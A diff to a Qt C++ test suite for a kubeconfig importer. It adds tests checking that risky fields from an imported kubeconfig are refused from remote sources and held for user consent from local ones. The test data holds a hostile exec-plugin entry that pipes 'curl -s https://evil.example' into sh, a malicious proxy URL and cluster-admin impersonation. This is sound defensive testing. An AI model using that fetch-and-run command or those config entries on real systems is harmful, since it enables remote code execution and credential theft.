@@ -182,13 +182,20 @@ private slots:
     void nameClash();
     void setCurrent_data();
     void setCurrent();
-    void relativeSourcePathsBecomeAbsolute();
+    void relativeSourcePathsAreEmbedded();
     void refreshDropsInsecureSkipTlsVerify();
     void refreshWithoutFreshCaKeepsCa();
     void brokenDestinationRefused();
 
     void applyRefreshEndToEnd();
     void applyNewFileEndToEnd();
+
+    // What may cross from a source into the user's kubeconfig.
+    void guardedFields_data();
+    void guardedFields();
+    void harmlessFieldsLeftOut_data();
+    void harmlessFieldsLeftOut();
+    void applyRefusesWithoutConsent();
 
 private:
     // A K3s-style kubeconfig: cluster, user and context all called "default".
@@ -202,6 +209,10 @@ private:
     // with old credentials of `kind` ("cert", "cert-files", "token"), plus an unrelated "other".
     QString writeRefreshTarget(const QString &clusterName, const QString &userName,
                                const QString &kind) const;
+    // A source in source/k3s.yaml whose cluster, user and context bodies are given as YAML (the
+    // defaults are K3s's), with pki/ files and token.txt next to it for bodies that name files.
+    KubeconfigDocument writeSourceText(const QString &clusterBody, const QString &userBody,
+                                       const QString &contextBody) const;
 
     Pki m_pki;
     std::unique_ptr<QTemporaryDir> m_dir;
@@ -313,6 +324,46 @@ x-top-level: kept
     return writeText(m_dir->filePath(str("home/config")), text);
 }
 
+KubeconfigDocument TestKubeconfigImporter::writeSourceText(const QString &clusterBody,
+                                                           const QString &userBody,
+                                                           const QString &contextBody) const
+{
+    const QString folder = m_dir->filePath(str("source"));
+    test::writeFile(folder + str("/pki/client.crt"), m_pki.freshLeaf.certificatePem);
+    test::writeFile(folder + str("/pki/client.key"), m_pki.freshLeaf.privateKeyPem);
+    test::writeFile(folder + str("/pki/ca.crt"), m_pki.freshCa.certificatePem);
+    test::writeFile(folder + str("/token.txt"), m_pki.freshToken + "\n");
+    const QString defaultCluster = str("server: https://127.0.0.1:6443\n    certificate-authority-data: ") +
+                                   b64(m_pki.freshCa.certificatePem);
+    const auto fill = [](const QString &body, const QString &defaults) {
+        return body.isEmpty() ? defaults : body.contains(QLatin1String("%1")) ? body.arg(defaults) : body;
+    };
+    const QString defaultUser =
+        str("client-certificate-data: %1\n    client-key-data: %2")
+            .arg(b64(m_pki.freshLeaf.certificatePem), b64(m_pki.freshLeaf.privateKeyPem));
+    const QString text =
+        str(R"(apiVersion: v1
+kind: Config
+clusters:
+- name: default
+  cluster:
+    %1
+users:
+- name: default
+  user:
+    %2
+contexts:
+- name: default
+  context:
+    cluster: default
+    user: default
+    %3
+current-context: default
+)")
+            .arg(fill(clusterBody, defaultCluster), fill(userBody, defaultUser), contextBody);
+    return KubeconfigDocument::load(writeText(folder + str("/k3s.yaml"), text));
+}
+
 void TestKubeconfigImporter::refreshInPlace_data()
 {
     QTest::addColumn<QString>("targetKind");
@@ -419,7 +470,13 @@ void TestKubeconfigImporter::refreshInPlace()
                                                                            : now().addDays(365)));
     const bool kindChanged =
         targetKind.startsWith(QLatin1String("cert")) != (sourceKind == QLatin1String("cert"));
-    QCOMPARE(result->warnings.join(QLatin1Char('\n')).contains(QLatin1String("now uses")), kindChanged);
+    // A change of credential kind is not written without a yes.
+    QCOMPARE(result->needsConsent(), kindChanged);
+    if (kindChanged) {
+        QCOMPARE(result->guarded.size(), std::size_t(1));
+        QCOMPARE(result->guarded.front().field, str("credential kind"));
+        QCOMPARE(result->guarded.front().detail, str("token → certificate"));
+    }
 }
 
 void TestKubeconfigImporter::refreshUnchangedWritesNothing()
@@ -970,7 +1027,7 @@ void TestKubeconfigImporter::setCurrent()
     QVERIFY(result->edits.contains(destination));
 }
 
-void TestKubeconfigImporter::relativeSourcePathsBecomeAbsolute()
+void TestKubeconfigImporter::relativeSourcePathsAreEmbedded()
 {
     const QString folder = m_dir->filePath(str("source"));
     test::writeFile(folder + str("/pki/client.crt"), m_pki.freshLeaf.certificatePem);
@@ -987,12 +1044,23 @@ void TestKubeconfigImporter::relativeSourcePathsBecomeAbsolute()
     const auto result =
         plan(KubeconfigSet::load({destination}), destination, source, requestFor(source.path()), &error);
     QVERIFY2(result, qPrintable(error));
+    // The files are read from next to the source and embedded, as kubectl config view --flatten
+    // does: the new context does not depend on where the source lay. That needs a yes.
     const YAML::Node &root = result->edits.first().root;
-    QCOMPARE(scalarOf(entry(root, "clusters", str("k3s"))["cluster"], "certificate-authority"),
-             folder + str("/pki/ca.crt"));
+    const YAML::Node cluster = entry(root, "clusters", str("k3s"))["cluster"];
+    QCOMPARE(keysOf(cluster), (QStringList{str("server"), str("certificate-authority-data")}));
+    QCOMPARE(scalarOf(cluster, "certificate-authority-data"), b64(m_pki.freshCa.certificatePem));
     const YAML::Node user = entry(root, "users", str("k3s"))["user"];
-    QCOMPARE(scalarOf(user, "client-certificate"), folder + str("/pki/client.crt"));
-    QCOMPARE(scalarOf(user, "client-key"), folder + str("/pki/client.key"));
+    QCOMPARE(keysOf(user), (QStringList{str("client-certificate-data"), str("client-key-data")}));
+    QCOMPARE(scalarOf(user, "client-certificate-data"), b64(m_pki.freshLeaf.certificatePem));
+    QCOMPARE(scalarOf(user, "client-key-data"), b64(m_pki.freshLeaf.privateKeyPem));
+    QVERIFY(result->needsConsent());
+    QStringList paths;
+    for (const GuardedField &field : result->guarded)
+        paths << field.field + QLatin1Char(' ') + field.detail.section(QLatin1Char(' '), 0, 0);
+    QCOMPARE(paths, (QStringList{str("certificate-authority ") + folder + str("/pki/ca.crt"),
+                                 str("client-certificate ") + folder + str("/pki/client.crt"),
+                                 str("client-key ") + folder + str("/pki/client.key")}));
 }
 
 void TestKubeconfigImporter::refreshDropsInsecureSkipTlsVerify()
@@ -1163,6 +1231,203 @@ void TestKubeconfigImporter::applyNewFileEndToEnd()
     QVERIFY(process.waitForFinished(30000));
     QCOMPARE(process.exitCode(), 0);
     QCOMPARE(QString::fromUtf8(process.readAllStandardOutput()).trimmed(), str("k3s"));
+}
+
+void TestKubeconfigImporter::guardedFields_data()
+{
+    // A body with "%1" keeps the default credentials (K3s's) beside the field.
+    QTest::addColumn<QString>("clusterBody");
+    QTest::addColumn<QString>("userBody");
+    QTest::addColumn<QString>("contextBody");
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<QString>("shown");       ///< what the message must show of it
+    QTest::addColumn<QString>("writtenKey");  ///< what a trusted local import writes for it
+    QTest::addColumn<bool>("takenByRefresh"); ///< a refresh writes it (so it needs a yes there too)
+
+    const QString jwt = QString::fromLatin1(TestPki::jwt(now().addDays(30)));
+    QTest::newRow("exec plugin")
+        << str("")
+        << str("exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
+               "      command: /bin/sh\n      args: [-c, \"curl -s "
+               "https://evil.example | sh\"]\n      env:\n      - name: "
+               "MODE\n        value: quiet\n      interactiveMode: Never")
+        << str("") << str("exec")
+        << str("/bin/sh -c 'curl -s https://evil.example | sh'; environment: MODE=quiet") << str("exec")
+        << true;
+    QTest::newRow("auth provider")
+        << str("")
+        << str("auth-provider:\n      name: oidc\n      config:\n        idp-issuer-url: "
+               "https://evil.example\n        client-id: kube\n        id-token: ") +
+               jwt
+        << str("") << str("auth-provider")
+        << str("oidc (idp-issuer-url: https://evil.example, client-id: kube, "
+               "id-token)")
+        << str("auth-provider") << true;
+    QTest::newRow("tokenFile naming a local file")
+        << str("") << str("tokenFile: token.txt") << str("") << str("tokenFile") << str("token.txt")
+        << str("token") << true;
+    QTest::newRow("client certificate and key files")
+        << str("") << str("client-certificate: pki/client.crt\n    client-key: pki/client.key") << str("")
+        << str("client-certificate") << str("pki/client.crt") << str("client-certificate-data") << true;
+    QTest::newRow("impersonation (as)") << str("") << str("%1\n    as: cluster-admin") << str("") << str("as")
+                                        << str("cluster-admin") << str("as") << false;
+    QTest::newRow("impersonation (as-groups)")
+        << str("") << str("%1\n    as-groups: [system:masters]") << str("") << str("as-groups")
+        << str("[system:masters]") << str("as-groups") << false;
+    QTest::newRow("user extensions")
+        << str("") << str("%1\n    extensions:\n    - name: tool.example/x\n      extension: {a: b}")
+        << str("") << str("extensions") << str("tool.example/x") << str("extensions") << false;
+    QTest::newRow("CA file") << str("server: https://127.0.0.1:6443\n    certificate-authority: pki/ca.crt")
+                             << str("") << str("") << str("certificate-authority") << str("pki/ca.crt")
+                             << str("certificate-authority-data") << true;
+    QTest::newRow("insecure-skip-tls-verify")
+        << str("server: https://127.0.0.1:6443\n    insecure-skip-tls-verify: true") << str("") << str("")
+        << str("insecure-skip-tls-verify") << str("true") << str("insecure-skip-tls-verify") << false;
+    QTest::newRow("proxy-url") << str("%1\n    proxy-url: http://proxy.evil.example:3128") << str("")
+                               << str("") << str("proxy-url") << str("http://proxy.evil.example:3128")
+                               << str("proxy-url") << false;
+    QTest::newRow("cluster extensions")
+        << str("%1\n    extensions:\n    - name: tool.example/y\n      extension: {a: b}") << str("")
+        << str("") << str("extensions") << str("tool.example/y") << str("extensions") << false;
+    QTest::newRow("context extensions")
+        << str("") << str("") << str("extensions:\n    - name: tool.example/z\n      extension: {a: b}")
+        << str("extensions") << str("tool.example/z") << str("extensions") << false;
+}
+
+void TestKubeconfigImporter::guardedFields()
+{
+    QFETCH(QString, clusterBody);
+    QFETCH(QString, userBody);
+    QFETCH(QString, contextBody);
+    QFETCH(QString, field);
+    QFETCH(QString, shown);
+    QFETCH(QString, writtenKey);
+    QFETCH(bool, takenByRefresh);
+    const KubeconfigDocument source = writeSourceText(clusterBody, userBody, contextBody);
+    QCOMPARE(source.status(), KubeconfigDocument::Status::Ok);
+    const QString refreshTarget = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
+    const QString newTarget = m_dir->filePath(str("home/new-config"));
+
+    for (const bool refresh : {false, true}) {
+        const QString target = refresh ? refreshTarget : newTarget;
+        const QString name = refresh ? str("k3s") : str("fresh");
+        const KubeconfigSet set = KubeconfigSet::load({target});
+        const QString label = refresh ? str("refresh") : str("new context");
+
+        // From elsewhere (SSH, pkexec, a pipe): refused, naming the field, what it holds and why.
+        ImportRequest request = requestFor(str("ssh://root@127.0.0.1/etc/rancher/k3s/k3s.yaml"), name);
+        request.origin = SourceOrigin::Elsewhere;
+        request.allowGuarded = true; // a yes does not open a fetched source
+        QString error;
+        QVERIFY2(!plan(set, target, source, request, &error), qPrintable(label));
+        QVERIFY2(error.contains(str("comes from another machine")), qPrintable(error));
+        QVERIFY2(error.contains(str(": %1 ").arg(field)), qPrintable(error));
+        QVERIFY2(error.contains(shown), qPrintable(error));
+        QVERIFY2(error.contains(str("ssh://root@127.0.0.1")), qPrintable(error));
+
+        // From a local file: planned, but written only with a yes, and then as the file meant.
+        request = requestFor(source.path(), name);
+        const auto planned = plan(set, target, source, request, &error);
+        QVERIFY2(planned, qPrintable(label + QLatin1Char(' ') + error));
+        QCOMPARE(planned->needsConsent(), !refresh || takenByRefresh);
+        if (!planned->needsConsent()) {
+            QVERIFY2(planned->warnings.join(QLatin1Char('\n')).contains(field),
+                     qPrintable(planned->warnings.join(QLatin1Char('\n'))));
+            continue;
+        }
+        QStringList described;
+        for (const GuardedField &guarded : planned->guarded)
+            described << guarded.describe();
+        QVERIFY2(described.join(QLatin1Char('\n')).contains(str(": %1 ").arg(field)),
+                 qPrintable(described.join(QLatin1Char('\n'))));
+        const QString section = field == QLatin1String("extensions") && !contextBody.isEmpty()
+                                    ? str("contexts")
+                                : !clusterBody.isEmpty() ? str("clusters")
+                                                         : str("users");
+        const char *body = section == QLatin1String("contexts")   ? "context"
+                           : section == QLatin1String("clusters") ? "cluster"
+                                                                  : "user";
+        const YAML::Node written = entry(planned->edits.value(target).root, section.toUtf8().constData(),
+                                         section == QLatin1String("users") && refresh      ? str("k3s")
+                                         : section == QLatin1String("clusters") && refresh ? str("k3s")
+                                                                                           : name)[body];
+        QVERIFY2(keysOf(written).contains(writtenKey), qPrintable(keysOf(written).join(QLatin1Char(','))));
+        // A file reference is never written as a path.
+        for (const char *path : {"client-certificate", "client-key", "certificate-authority", "tokenFile"})
+            QVERIFY(!keysOf(written).contains(QLatin1String(path)));
+    }
+}
+
+void TestKubeconfigImporter::harmlessFieldsLeftOut_data()
+{
+    QTest::addColumn<QString>("clusterBody");
+    QTest::addColumn<QString>("userBody");
+    QTest::addColumn<QString>("contextBody");
+    QTest::addColumn<QString>("leftOut");
+
+    QTest::newRow("disable-compression") << str("%1\n    disable-compression: true") << str("") << str("")
+                                         << str("cluster “default”: disable-compression");
+    QTest::newRow("an unknown field")
+        << str("") << str("%1\n    x-vendor: 1") << str("") << str("user “default”: x-vendor");
+    QTest::newRow("the source's namespace")
+        << str("") << str("") << str("namespace: kube-system") << str("context “default”: namespace");
+}
+
+void TestKubeconfigImporter::harmlessFieldsLeftOut()
+{
+    QFETCH(QString, clusterBody);
+    QFETCH(QString, userBody);
+    QFETCH(QString, contextBody);
+    QFETCH(QString, leftOut);
+    const KubeconfigDocument source = writeSourceText(clusterBody, userBody, contextBody);
+    const QString target = m_dir->filePath(str("home/config"));
+    ImportRequest request = requestFor(str("ssh://root@127.0.0.1/etc/rancher/k3s/k3s.yaml"), str("fresh"));
+    request.origin = SourceOrigin::Elsewhere;
+    request.loopbackHost = str("127.0.0.1");
+    QString error;
+    const auto planned = plan(KubeconfigSet::load({target}), target, source, request, &error);
+    QVERIFY2(planned, qPrintable(error));
+    QVERIFY(!planned->needsConsent());
+    const QString warnings = planned->warnings.join(QLatin1Char('\n'));
+    QVERIFY2(warnings.contains(str("only credentials cross")) && warnings.contains(leftOut),
+             qPrintable(warnings));
+    const YAML::Node &root = planned->edits.value(target).root;
+    QCOMPARE(keysOf(entry(root, "clusters", str("fresh"))["cluster"]),
+             (QStringList{str("server"), str("certificate-authority-data")}));
+    QCOMPARE(keysOf(entry(root, "users", str("fresh"))["user"]),
+             (QStringList{str("client-certificate-data"), str("client-key-data")}));
+    QCOMPARE(keysOf(entry(root, "contexts", str("fresh"))["context"]),
+             (QStringList{str("cluster"), str("user")}));
+}
+
+void TestKubeconfigImporter::applyRefusesWithoutConsent()
+{
+    const KubeconfigDocument source = writeSourceText(
+        {},
+        str("exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: plugin\n"
+            "      interactiveMode: Never"),
+        {});
+    const QString target = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
+    const QByteArray before = test::readFile(target);
+    QString error;
+    auto planned = plan(KubeconfigSet::load({target}), target, source, requestFor(source.path()), &error);
+    QVERIFY2(planned, qPrintable(error));
+    QVERIFY(planned->needsConsent());
+    BackupStore backups(m_dir->filePath(str("state/backups")));
+    KubeconfigWriter writer(backups);
+    KubeconfigImporter::Result result = KubeconfigImporter::apply(*planned, writer, now());
+    QVERIFY(!result.ok);
+    QVERIFY2(result.error.contains(str("needs your yes")) && result.error.contains(str(": exec plugin")),
+             qPrintable(result.error));
+    QCOMPARE(test::readFile(target), before);
+    QVERIFY(result.writes.empty());
+
+    planned->request.allowGuarded = true;
+    result = KubeconfigImporter::apply(*planned, writer, now());
+    QVERIFY2(result.ok, qPrintable(result.error));
+    const YAML::Node user = entry(KubeconfigDocument::load(target).root(), "users", str("k3s"))["user"];
+    QVERIFY(keysOf(user).contains(str("exec")));
+    QVERIFY(!keysOf(user).contains(str("client-certificate-data")));
 }
 
 QTEST_GUILESS_MAIN(TestKubeconfigImporter)
